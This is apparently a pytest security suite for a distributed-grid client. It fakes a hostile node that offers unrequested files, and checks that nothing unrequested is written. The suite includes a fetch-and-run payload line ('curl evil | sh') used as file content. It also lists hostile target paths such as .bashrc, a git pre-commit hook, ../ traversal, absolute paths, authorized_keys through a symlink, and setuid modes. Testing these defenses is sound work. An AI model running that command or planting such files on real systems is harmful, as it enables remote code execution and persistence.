"""A node is a stranger to its clients: one that answers with other files, other bytes or other lengths than it was
asked for writes nothing in a client's directory, and is named. The node speaks the real protocol; `grid` is real."""

import asyncio
import os
import stat
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from distributed_grid.protocol.jobs import Cause, Outcome
from distributed_grid.protocol.messages import (
    Exited,
    FileData,
    FileEntry,
    Files,
    Launch,
    Output,
    Started,
    WantFile,
    WantFiles,
    WantOutput,
)
from tests.coordinator import ends
from tests.coordinator.ends import AgentEnd, Coordinator, DataEnd, agent, coordinator
from tests.grid_fixture import GRID

CONTENT = b"curl evil | sh\n"


class Liar(DataEnd):
    """Answers a question about files with whatever `lists` and `sends` say."""

    lists: tuple[FileEntry, ...] = ()
    sends: dict[str, list[FileData]] = {}
    asked: list[Any] = []

    async def react(self, message: Any) -> None:
        self.asked.append(message)
        match message:
            case WantFiles():
                await self.say(Files(message.id, self.lists))
            case WantFile():
                data = CONTENT[message.offset : message.offset + message.size]
                end = message.offset + len(data) == len(CONTENT)
                await self.say(FileData(message.id, data, end))


@dataclass
class Told:
    code: int
    out: str
    err: str


class Attack:
    """A grid with one hostile node, and a client's directory."""

    def __init__(self, grid: Coordinator, node: AgentEnd, here: Path) -> None:
        self.grid = grid
        self.node = node
        self.here = here

    async def grid_command(self, *words: str) -> Told:
        environment = {name: value for name, value in os.environ.items() if not name.startswith("GRID_")}
        environment |= {"GRID_COORDINATOR": self.grid.url, "XDG_CONFIG_HOME": str(self.here.parent / "config")}
        process = await asyncio.create_subprocess_exec(
            *GRID, *words, cwd=self.here, env=environment, stdout=-1, stderr=-1, stdin=asyncio.subprocess.DEVNULL
        )
        out, err = await asyncio.wait_for(process.communicate(), 60)
        return Told(process.returncode or 0, out.decode(), err.decode())

    async def get(self, *words: str) -> Told:
        return await self.grid_command("run-shared", "-t", "cpu", "-a", "1", "--no-ship", *words, "true")

    def files(self) -> list[str]:
        return sorted(str(path.relative_to(self.here)) for path in self.here.rglob("*") if not path.is_dir())


@asynccontextmanager
async def attack(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *lists: FileEntry) -> AsyncIterator[Attack]:
    monkeypatch.setattr(ends, "DataEnd", Liar)
    monkeypatch.setattr(Liar, "lists", lists)
    monkeypatch.setattr(Liar, "asked", [])
    here = tmp_path / "here"
    here.mkdir()
    (tmp_path / "state").mkdir()
    async with coordinator(tmp_path / "state") as grid:
        node = await agent(grid.url)
        yield Attack(grid, node, here)
        await node.close()


def entry(path: str, mode: int = 0o644, **more: Any) -> FileEntry:
    return FileEntry(path, len(CONTENT), mode, **more)


EVIL = (
    entry(".bashrc"),
    entry("Makefile"),
    entry(".git/hooks/pre-commit", 0o755),
    entry("../up"),
    entry("/tmp/absolute"),
    entry("result.txt", raw=b".bashrc"),
)


async def test_a_node_that_is_asked_for_one_file_writes_no_other(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with attack(tmp_path, monkeypatch) as scene:
        for evil in EVIL:
            Liar.lists, Liar.asked = (entry("result.txt"), evil), []
            told = await scene.get("--get", "result.txt")
            assert told.code == 125
            assert "error: node n1 answers with what was not asked for" in told.err
            assert scene.files() == [] and not (tmp_path / "up").exists()
            assert WantFile not in map(type, Liar.asked)


async def test_a_wildcard_brings_nothing_hidden_and_no_executable_bit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    evil = (entry("bin/tool", 0o6777), entry("bin/.profile"))
    async with attack(tmp_path, monkeypatch, *evil) as scene:
        told = await scene.get("--get", "bin")
        assert (told.code, scene.files()) == (0, ["bin/tool"])
        assert "1 file is left out: bin/.profile" in told.err
        assert stat.S_IMODE((scene.here / "bin/tool").stat().st_mode) & 0o7111 == 0
        (scene.here / "bin/tool").unlink()
        told = await scene.get("--get", "bin", "--executable")
        assert stat.S_IMODE((scene.here / "bin/tool").stat().st_mode) & 0o7111 == 0o111 & ~umask()


async def test_what_changed_here_meanwhile_stays_and_the_others_come(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with attack(tmp_path, monkeypatch, entry("a"), entry("b")) as scene:
        (scene.here / "a").write_text("mine")
        os.utime(scene.here / "a", (time.time() + 100, time.time() + 100))
        told = await scene.get("--get", "*")
        assert told.code == 125
        assert "error: 1 file is not written: a (it changed here since the job was submitted)" in told.err
        assert "--force" in told.err
        assert (scene.here / "a").read_text() == "mine" and (scene.here / "b").read_bytes() == CONTENT
        told = await scene.get("--force", "--get", "*")
        assert (told.code, (scene.here / "a").read_bytes()) == (0, CONTENT)


async def test_a_link_here_leads_nowhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with attack(tmp_path, monkeypatch, entry("out/authorized_keys"), entry("b")) as scene:
        (tmp_path / "ssh").mkdir()
        (scene.here / "out").symlink_to(tmp_path / "ssh")
        told = await scene.get("--get", "**")
        assert told.code == 125 and "out is a link here" in told.err
        assert os.listdir(tmp_path / "ssh") == [] and scene.files() == ["b"]


class Sends(Liar):
    """Sends something else than the bytes that it listed."""

    answer: Any = None

    async def react(self, message: Any) -> None:
        if isinstance(message, WantFile):
            await self.say(FileData(message.id, *self.answer))
        else:
            await super().react(message)


@pytest.mark.parametrize(
    ("answer", "word"),
    [((CONTENT[:3], True), "instead of the"), ((b"", False), "without bytes")],
    ids=["short", "empty for ever"],
)
async def test_sizes_agree_between_the_list_and_the_data(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, answer: Any, word: str
) -> None:
    async with attack(tmp_path, monkeypatch, entry("a")) as scene:
        monkeypatch.setattr(ends, "DataEnd", Sends)
        monkeypatch.setattr(Sends, "answer", answer)
        told = await scene.get("--get", "a")
        assert told.code == 125 and "node n1" in told.err and word in told.err
        assert scene.files() == []


async def test_a_disk_is_not_filled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with attack(tmp_path, monkeypatch, FileEntry("a", 1 << 55)) as scene:
        told = await scene.get("--get", "a")
        assert told.code == 125 and "error: node n1 has 32768T of results" in told.err
        assert scene.files() == []


class Endless(DataEnd):
    """Always has more output."""

    async def react(self, message: Any) -> None:
        if isinstance(message, WantOutput):
            await self.say(Output(message.id, message.offset, b"x" * message.size))


async def test_output_without_end_ends_at_the_size_on_record(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def ends_at_once(launch: Launch) -> list[Any]:
        outcome = Outcome(Cause.EXITED, code=3, stdout_size=1_000_000)
        return [Started(launch.allocation, 1), Exited(launch.allocation, outcome, returned=True)]

    async with attack(tmp_path, monkeypatch) as scene:
        monkeypatch.setattr(ends, "DataEnd", Endless)
        scene.node.runs = ends_at_once
        told = await scene.get()
        assert (told.code, told.out == "x" * 1_000_000, told.err) == (3, True, "")


async def test_attach_compares_as_well(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    async with attack(tmp_path, monkeypatch, entry("a"), entry(".bashrc")) as scene:
        job = (await scene.grid_command("run-shared", "-t", "cpu", "-a", "1", "--no-ship", "-d", "true")).out.strip()
        told = await scene.grid_command("attach", job, "--get", "a")
        assert told.code == 125 and "node n1 answers with what was not asked for" in told.err
        assert scene.files() == []


def umask() -> int:
    before = os.umask(0o022)
    os.umask(before)
    return before
